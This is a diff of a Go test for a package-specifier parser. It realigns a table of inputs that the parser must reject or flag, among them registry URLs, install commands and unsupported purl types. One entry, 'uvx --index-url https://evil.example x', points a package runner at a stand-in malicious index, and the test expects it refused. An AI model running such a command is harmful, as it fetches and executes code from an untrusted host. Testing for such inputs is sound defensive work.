@@ -38,14 +38,14 @@ func TestRefusedForms(t *testing.T) {
 		"lodash":                             Ambiguous,
 		"socket.io":                          Ambiguous,
 		"go4.org@v0.0.0-20240501181205-ae6ca9944745": Ambiguous,
-		"pkg:julia/x@1.0":                            UnsupportedType,
-		"pkg:novel/x@1.0":                            UnsupportedType,
-		"https://rubygems.org/gems/rails":            UnsupportedType,
-		"www.nuget.org/packages/x":                   UnsupportedType,
-		"npx --loglevel silly cowsay":                Malformed,
-		"uvx --index-url https://evil.example x":     RefusedQualifier,
-		"gem install rails":                          UnsupportedType,
-		"docker pull alpine":                         UnsupportedType,
+		"pkg:julia/x@1.0":                        UnsupportedType,
+		"pkg:novel/x@1.0":                        UnsupportedType,
+		"https://rubygems.org/gems/rails":        UnsupportedType,
+		"www.nuget.org/packages/x":               UnsupportedType,
+		"npx --loglevel silly cowsay":            Malformed,
+		"uvx --index-url https://evil.example x": RefusedQualifier,
+		"gem install rails":                      UnsupportedType,
+		"docker pull alpine":                     UnsupportedType,
 	} {
 		t.Run(shown(text), func(t *testing.T) {
 			e := requireKind(t, kind, text)
